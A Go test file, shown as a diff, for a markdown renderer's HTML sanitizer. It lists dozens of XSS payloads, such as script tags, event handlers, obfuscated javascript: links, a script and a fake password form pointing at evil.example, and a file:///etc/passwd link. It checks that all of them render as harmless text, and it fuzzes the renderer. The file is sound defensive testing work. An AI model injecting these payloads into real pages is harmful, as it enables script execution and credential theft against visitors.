@@ -1,0 +1,183 @@
+package markdown
+
+import (
+	"bytes"
+	"net/url"
+	"slices"
+	"strings"
+	"testing"
+	"unicode/utf8"
+
+	"golang.org/x/net/html"
+)
+
+// attacks are texts that must show as text, or not at all.
+var attacks = []string{
+	`<script>alert(1)</script>`,
+	`<SCRIPT SRC=https://evil.example/x.js></SCRIPT>`,
+	`<img src=x onerror=alert(1)>`,
+	`<svg onload=alert(1)>`,
+	`<svg><script>alert(1)</script></svg>`,
+	`<math><mi//xlink:href="data:x,<script>alert(1)</script>">`,
+	`<iframe src="javascript:alert(1)"></iframe>`,
+	`<object data="data:text/html,<script>alert(1)</script>"></object>`,
+	`<style>body{background:url(javascript:alert(1))}</style>`,
+	`<link rel=stylesheet href=//evil.example>`,
+	`<meta http-equiv=refresh content="0;url=javascript:alert(1)">`,
+	`<base href="https://evil.example/">`,
+	`<form action="https://evil.example"><input name=password><button>Log in</button></form>`,
+	`<a href="javascript:alert(1)">x</a>`,
+	`<div style="position:fixed;inset:0">x</div>`,
+	`<!--><img src=x onerror=alert(1)>-->`,
+	`<![CDATA[<img src=x onerror=alert(1)>]]>`,
+	`<noscript><p title="</noscript><img src=x onerror=alert(1)>">`,
+	`<textarea></textarea><img src=x onerror=alert(1)>`,
+	`</pre></div></main></body><script>alert(1)</script>`,
+	`[x](javascript:alert(1))`,
+	`[x](JaVaScRiPt:alert(1))`,
+	"[x](java\tscript:alert(1))",
+	"[x](<java\nscript:alert(1)>)",
+	`[x](javascript&colon;alert(1))`,
+	`[x](&#106;avascript:alert(1))`,
+	`[x](\javascript:alert(1))`,
+	`[x](%6aavascript:alert(1))`,
+	`[x](vbscript:msgbox(1))`,
+	`[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)`,
+	`[x](file:///etc/passwd)`,
+	`[x](blob:https://example.com/1)`,
+	`[x](https:javascript:alert(1))`,
+	`[x](https://example.com "\" onmouseover=alert(1) \"")`,
+	`[x](https://example.com/"onmouseover="alert(1))`,
+	`[x][1]` + "\n\n" + `[1]: javascript:alert(1) "x"`,
+	`<javascript:alert(1)>`,
+	`<data:text/html,x>`,
+	`![x](javascript:alert(1))`,
+	`![x](data:image/svg+xml,<svg/onload=alert(1)>)`,
+	`![x" onerror="alert(1)](https://example.com/x.png)`,
+	`![x](https://example.com/x.png"onerror="alert(1))`,
+	"```\"><script>alert(1)</script>\nx\n```",
+	"```js\" onmouseover=\"alert(1)\nx\n```",
+	"`<script>alert(1)</script>`",
+	"    <script>alert(1)</script>",
+	"|<script>|<img src=x onerror=y>|\n|-|-|\n|[x](javascript:y)|<b onclick=z>|",
+	`# <script>alert(1)</script> {onclick=alert(1)}`,
+	`&lt;script&gt;alert(1)&lt;/script&gt;`,
+	`&#60;script&#62;alert(1)&#60;/script&#62;`,
+	"<scr\x00ipt>alert(1)</script>",
+	"\xff<script>\xfe",
+	`[<img src=x onerror=alert(1)>](https://example.com)`,
+	`http://example.com/"><script>alert(1)</script>`,
+	`www.example.com/'onclick='alert(1)`,
+	`"><script>alert(1)</script>@example.com`,
+}
+
+func TestAttacksShowAsText(t *testing.T) {
+	r := NewRenderer()
+	for _, content := range attacks {
+		t.Run(content, func(t *testing.T) {
+			rendered := string(r.render(content))
+			checkSafe(t, rendered)
+			if strings.Contains(content, "<script>alert(1)") && strings.Contains(rendered, "<script") {
+				t.Errorf("a script is left in %s", rendered)
+			}
+		})
+	}
+}
+
+// TestPolicyAlone shows that the second wall holds without the first.
+func TestPolicyAlone(t *testing.T) {
+	policy := newPolicy()
+	for _, content := range append(slices.Clone(attacks),
+		`<p id="header" class="error" onclick="x">a</p>`,
+		`<img src="http://example.com/x.png">`,
+		`<img src="//example.com/x.png">`,
+		`<a href="/logout" rel="opener" target="_blank">x</a>`,
+		`<code class="language-x y">x</code>`,
+		`<h1 id=x>x</h1>`,
+	) {
+		checkSafe(t, policy.Sanitize(content))
+	}
+	links := policy.Sanitize(`<a href="https://example.com">x</a>`)
+	if want := `<a href="https://example.com" rel="nofollow">x</a>`; links != want {
+		t.Errorf("a link becomes %s", links)
+	}
+}
+
+// checkSafe reads HTML as a browser does, and fails if it has more than what is harmless.
+func checkSafe(t *testing.T, rendered string) {
+	t.Helper()
+	allowed := map[string][]string{
+		"a": {"href", "title", "rel"}, "img": {"src", "alt", "title", "loading"},
+		"code": {"class"}, "ol": {"start"}, "th": {"class"}, "td": {"class"},
+	}
+	for _, name := range strings.Fields(
+		"p br hr h2 h3 h4 h5 h6 blockquote ul li pre em strong del table thead tbody tr") {
+		allowed[name] = nil
+	}
+	tokens := html.NewTokenizer(strings.NewReader(rendered))
+	for {
+		switch kind := tokens.Next(); kind {
+		case html.ErrorToken:
+			return
+		case html.TextToken:
+		case html.StartTagToken, html.EndTagToken, html.SelfClosingTagToken:
+			checkElement(t, tokens.Token(), allowed)
+		default:
+			t.Errorf("%s has the token %v", rendered, tokens.Token())
+		}
+	}
+}
+
+func checkElement(t *testing.T, element html.Token, allowed map[string][]string) {
+	t.Helper()
+	attributes, ok := allowed[element.Data]
+	if !ok {
+		t.Errorf("the element %v is not allowed", element)
+	}
+	for _, attribute := range element.Attr {
+		if !slices.Contains(attributes, attribute.Key) {
+			t.Errorf("the attribute %s of %v is not allowed", attribute.Key, element)
+		}
+		var schemes []string
+		switch attribute.Key {
+		case "href":
+			schemes = []string{"http", "https", "mailto"}
+		case "src":
+			schemes = []string{"https"}
+		default:
+			continue
+		}
+		if u, err := url.Parse(attribute.Val); err != nil || !slices.Contains(schemes, u.Scheme) {
+			t.Errorf("the address of %v is not allowed", element)
+		}
+	}
+}
+
+// FuzzRender looks for texts whose HTML or excerpt is not what Render and Excerpt promise.
+func FuzzRender(f *testing.F) {
+	for _, content := range attacks {
+		f.Add(content)
+	}
+	for _, content := range hostile(2_000) {
+		f.Add(content)
+	}
+	r := NewRenderer()
+	f.Fuzz(func(t *testing.T, content string) {
+		rendered := string(r.render(content))
+		checkSafe(t, rendered)
+		if len(rendered) > max(MaxHTML, 6*len(content)+16) {
+			t.Errorf("%d bytes became %d", len(content), len(rendered))
+		}
+		again := string(r.policy.SanitizeBytes([]byte(rendered)))
+		if strings.Count(again, "<") != strings.Count(rendered, "<") {
+			t.Errorf("the policy removes more from its own result: %q becomes %q", rendered, again)
+		}
+		if len(bytes.TrimSpace([]byte(rendered))) > 0 && !utf8.ValidString(rendered) && utf8.ValidString(content) {
+			t.Errorf("%q is not UTF-8", rendered)
+		}
+		excerpt := r.Excerpt(content, 50)
+		if n := utf8.RuneCountInString(excerpt); n > 50 || strings.ContainsAny(excerpt, "\n\r\t") {
+			t.Errorf("the excerpt %q has %d characters", excerpt, n)
+		}
+	})
+}
